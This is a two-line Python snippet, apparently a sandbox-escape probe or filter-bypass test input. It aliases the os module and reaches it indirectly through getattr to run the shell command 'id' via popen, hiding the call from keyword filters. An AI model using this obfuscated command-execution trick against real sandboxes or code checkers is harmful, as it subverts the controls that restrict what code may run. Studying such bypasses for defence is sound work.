import sys, os as parts
getattr(sys.modules[__name__], "parts").popen("id").read()
